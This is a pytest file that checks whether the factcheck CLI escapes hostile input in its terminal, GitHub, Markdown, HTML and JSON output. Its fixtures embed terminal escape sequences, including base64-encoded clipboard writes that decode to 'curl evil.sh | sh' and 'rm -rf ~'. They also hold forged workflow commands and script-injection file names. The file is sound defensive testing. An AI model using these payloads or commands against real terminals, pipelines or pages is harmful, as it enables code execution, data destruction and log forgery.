"""Attacks through what factcheck prints: escape sequences in articles, forged workflow commands and markup in
file names, file names that are not UTF-8."""

import io
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest

from factcheck import api
from factcheck.cli import main
from factcheck.model import Report
from factcheck.render import Options, terminal

# OSC 52 (write the clipboard), clear screen, cursor home, a C1 CSI, backspaces, a bell, and a right-to-left override.
ESCAPES = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[H\x9b31m\x08\x08\u202e"
ARTICLE = (
    "---\r\npublished: 2023-03-17\r\n---\r\n# Harbour vote\r\n\r\n"
    f"The council met on Friday, February 26, 2023,{ESCAPES} to vote on the harbour plan.\r\n"
    "\"We have waited long enough,\" the mayor said.\r\n\r\n"
    f"Spending rose 5% to $10.5 million{ESCAPES}, the treasurer said.\r\n"
)
# Any control character but newline and tab, any C1 character, any bidi override, embedding or isolate.
FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
TERMINAL_FORMATS = ["rich", "line", "github", "markdown"]


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


# --- escape sequences in the article ---------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", TERMINAL_FORMATS)
def test_escape_sequences_in_an_article_never_reach_the_terminal(capsys, folder, fmt):
    (folder / "story.md").write_bytes(ARTICLE.encode("utf-8"))
    code, out, err = run(capsys, "check", "--format", fmt, "--no-cache", "story.md")
    assert code == 1
    assert "February 26, 2023 was a Sunday, not a Friday" in out or "February 26, 2023 was a Sunday" in out
    assert not FORBIDDEN.search(out), repr(FORBIDDEN.search(out))
    assert not FORBIDDEN.search(err)


def test_a_real_colour_terminal_gets_only_colour_sequences(folder):
    from test_formats import _terminal_run  # the same pseudo-terminal runner as the terminal format's tests

    (folder / "story.md").write_bytes(ARTICLE.encode("utf-8"))
    env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"}
    code, shown = _terminal_run(folder, ["check", "story.md"], env=env)
    assert code == 1 and "\x1b[" in shown  # coloured
    plain = re.sub(r"\x1b\[[0-9;]*m", "", shown).replace("\r\n", "\n")  # the terminal's own CR LF
    assert not FORBIDDEN.search(plain), repr(FORBIDDEN.search(plain))
    assert "Friday, February 26, 2023" in plain


def test_the_source_line_keeps_its_figure_underlined_where_it_is():
    report = api.check_text(ARTICLE, fmt="md", path="story.md")
    out = io.StringIO()
    terminal.render(Report(files=(report,)), out, Options(color=False, width=200))
    line = next(x for x in out.getvalue().splitlines() if "│ The council met" in x)
    assert "Friday, February 26, 2023" in line and "\ufffd" in line  # each control shown as one U+FFFD


# --- file names that forge workflow commands or carry markup ---------------------------------------------------

FORGED = "x\n::error file=README.md,line=1::forged\r\n::add-mask::secret\x1b]0;title\x07.md"


@pytest.fixture
def forged(folder):
    (folder / FORGED).write_text(ARTICLE.replace(ESCAPES, ""), encoding="utf-8")
    return FORGED


def test_a_file_name_cannot_forge_github_workflow_commands(capsys, forged):
    code, out, _ = run(capsys, "check", "--format", "github", "--no-cache", forged)
    assert code == 1
    lines = out.splitlines()
    escaped = "x%0A%3A%3Aerror file=README.md%2Cline=1%3A%3Aforged%0D%0A%3A%3Aadd-mask%3A%3Asecret.md,"
    assert lines and all(line.startswith((f"::error file={escaped}", f"::notice file={escaped}")) for line in lines)
    assert not FORBIDDEN.search(out)


@pytest.mark.parametrize("fmt", ["line", "rich"])
def test_a_file_name_cannot_forge_lines_in_line_or_rich_output(capsys, forged, fmt):
    code, out, _ = run(capsys, "check", "--format", fmt, "--no-cache", forged)
    assert code == 1
    assert not any(line.startswith("::") for line in out.splitlines()), out
    assert "x\\n::error file=README.md,line=1::forged\\r\\n::add-mask::secret" in out
    assert not FORBIDDEN.search(out)


def test_a_file_name_cannot_forge_commands_in_stderr_warnings(capsys, folder):
    name = "bin\n::error::forged\x1b[2J.txt"
    (folder / name).write_bytes(b"\x00\x01\x02 binary")
    (folder / "story.md").write_text(ARTICLE.replace(ESCAPES, ""), encoding="utf-8")
    code, _, err = run(capsys, "check", "--format", "json", "--no-cache", name, "story.md")
    assert code == 1
    assert err.count("\n") == 1 and err.startswith("factcheck: warning: bin\\n::error::forged")
    assert not FORBIDDEN.search(err)


def test_an_error_line_cannot_be_split_by_a_file_name(capsys, folder):
    code, _, err = run(capsys, "check", "--no-cache", "missing\n::error::forged.md")
    assert code == 2 and err.count("\n") == 1 and "missing\\n::error::forged.md" in err


@pytest.mark.parametrize("fmt", ["rich", "line", "markdown", "html", "github"])
def test_rich_markup_in_a_path_is_shown_not_obeyed(capsys, folder, fmt):
    (folder / "a[").mkdir()
    (folder / "a[" / "b][bold red]x.md").write_text(ARTICLE.replace(ESCAPES, ""), encoding="utf-8")
    (folder / "c.md").write_text(ARTICLE.replace(ESCAPES, ""), encoding="utf-8")
    code, out, err = run(capsys, "check", "--format", fmt, "--no-cache", "a[", "c.md")
    assert code == 1 and err == ""
    if fmt in ("rich", "line"):
        assert "a[/b][bold red]x.md:6:20" in out


def test_figures_table_shows_markup_in_a_path(capsys, folder):
    (folder / "a[").mkdir()
    (folder / "a[" / "b].md").write_text(ARTICLE, encoding="utf-8")
    code, out, err = run(capsys, "figures", "a[")
    assert code == 0 and "a[/b].md" in out and not FORBIDDEN.search(out)


# --- Markdown and HTML reports ---------------------------------------------------------------------------------

HOSTILE = "x*y_|<img src=x onerror=alert(1)>|`[link](evil.example)`.md"


def test_a_markdown_report_shows_a_hostile_path_as_text(capsys, folder):
    from markdown_it import MarkdownIt

    (folder / HOSTILE).write_text(ARTICLE.replace(ESCAPES, ""), encoding="utf-8")
    code, out, _ = run(capsys, "check", "--format", "markdown", "--no-cache", HOSTILE)
    assert code == 1
    html = MarkdownIt("commonmark").enable("table").render(out)
    assert "<img" not in html and "<a href" not in html
    row = next(r for r in re.findall(r"<tr>(.*?)</tr>", html, re.S) if "onerror" in r)
    assert row.count("<td") == 10  # the pipes in the name did not add table cells
    assert "x*y_|&lt;img src=x onerror=alert(1)&gt;|`[link](evil.example)`.md" in html


def test_an_html_report_shows_a_hostile_path_as_text(capsys, folder):
    name = "<script>alert(1)<b><img src=x onerror=alert(2)>.md"
    (folder / name).write_text(ARTICLE, encoding="utf-8")
    code, out, _ = run(capsys, "check", "--format", "html", "--no-cache", name)
    assert code == 1

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags = []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)

    parser = Tags()
    parser.feed(out)
    assert parser.tags.count("script") == 1  # only the report's own script
    assert "b" not in parser.tags and "img" not in parser.tags
    assert "&lt;script&gt;alert(1)&lt;b&gt;&lt;img src=x onerror=alert(2)&gt;.md" in out


# --- file names that are not UTF-8 -----------------------------------------------------------------------------

RAW = b"caf\xe9-\xff.md"


@pytest.fixture
def latin1(folder):
    with open(os.path.join(os.fsencode(folder), RAW), "wb") as fh:
        fh.write(ARTICLE.replace(ESCAPES, "").encode("utf-8"))
    return os.fsdecode(RAW)


@pytest.mark.parametrize("fmt", ["json", "jsonl", "sarif"])
def test_a_non_utf8_name_gives_valid_json_that_names_the_file(capsys, latin1, fmt):
    code, out, _ = run(capsys, "check", "--format", fmt, "--no-cache", latin1)
    assert code == 1
    out.encode("utf-8")  # no lone surrogates: valid UTF-8 on the wire
    if fmt == "sarif":
        log = json.loads(out)
        uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in log["runs"][0]["results"]}
        assert uris == {"caf%E9-%FF.md"}
        return
    first = json.loads(out.splitlines()[0] if fmt == "jsonl" else out)
    path = first["path"] if fmt == "jsonl" else first["files"][0]["path"]
    assert os.fsencode(path) == RAW  # json.loads gives the very name back


@pytest.mark.parametrize("fmt", TERMINAL_FORMATS + ["html"])
def test_a_non_utf8_name_is_shown_with_its_bytes(capsys, latin1, fmt):
    code, out, _ = run(capsys, "check", "--format", fmt, "--no-cache", latin1)
    assert code == 1 and "caf\\xe9-\\xff.md" in out.replace("\\\\", "\\")


def test_a_non_utf8_name_in_report_dir_and_baseline(capsys, latin1, folder):
    code, _, err = run(capsys, "check", "--no-cache", "--format", "json", "--report-dir", "reports", latin1)
    assert code == 1 and err == ""
    assert "`caf\\xe9-\\xff.md`" in (folder / "reports" / "factcheck-report.md").read_text(encoding="utf-8")
    assert "caf\\xe9-\\xff.md" in (folder / "reports" / "factcheck-report.html").read_text(encoding="utf-8")
    code, out, err = run(capsys, "baseline", "--no-cache", latin1)
    assert code == 0 and "wrote 1 finding" in out, err
    json.loads((folder / ".factcheck-baseline.json").read_text(encoding="utf-8"))
    code, out, err = run(capsys, "check", "--no-cache", "--format", "line", "-q",
                         "--baseline", ".factcheck-baseline.json",
                         latin1)
    assert (code, out) == (0, ""), err


def test_a_non_utf8_name_through_a_real_stdout(folder, latin1):
    for fmt in ("rich", "json", "sarif", "github"):
        done = subprocess.run([sys.executable, "-m", "factcheck.cli", "check", "--no-cache", "--format", fmt, latin1],
                              cwd=folder, capture_output=True, env={**os.environ, "PYTHONIOENCODING": "utf-8"})
        assert done.returncode == 1, done.stderr
        done.stdout.decode("utf-8")


# --- rule packs from the repository ----------------------------------------------------------------------------

def test_a_hostile_rule_pack_cannot_drive_the_terminal_through_rules_or_explain(capsys, folder):
    pack = folder / "pack"
    pack.mkdir()
    (pack / "FC901-hostile.yml").write_text(
        'id: FC901\nname: hostile\ncheck: calendar\nseverity: error\nparams:\n  test: impossible-date\n'
        'message: "[bold]{date}[/] \\u001b]52;c;cm0gLXJmIH4=\\u0007bad \\u001b[2J"\n'
        'fix: "Check \\u001b[31mthe\\u202e date."\n'
        'description: |\n  ## What it does\n  Clears \\u001b[2J the screen.\n', encoding="utf-8")
    (folder / "story.md").write_text(ARTICLE.replace(ESCAPES, "").replace("2023,", "2023, and on February 30,"),
                                     encoding="utf-8")
    for argv in (["rules", "--rules", "pack"], ["explain", "FC901", "--rules", "pack"],
                 ["check", "--rules", "pack", "--no-cache", "story.md"]):
        code, out, err = run(capsys, *argv)
        assert code in (0, 1), err
        assert not FORBIDDEN.search(out), (argv, repr(out))
    assert "[bold]February 30[/]" in out  # markup shown, not obeyed
